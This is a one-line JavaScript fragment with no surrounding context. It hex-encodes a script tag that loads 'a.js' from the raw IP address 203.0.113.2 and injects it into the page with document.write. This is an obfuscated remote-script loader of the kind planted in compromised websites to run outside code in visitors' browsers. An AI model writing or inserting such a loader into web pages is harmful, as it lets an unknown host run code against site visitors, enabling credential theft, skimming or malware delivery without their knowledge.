var t = "\x3c\x73\x63\x72\x69\x70\x74 src=\x22//203.0.113.2/a.js\x22>\x3c/script>"; document.write(t);
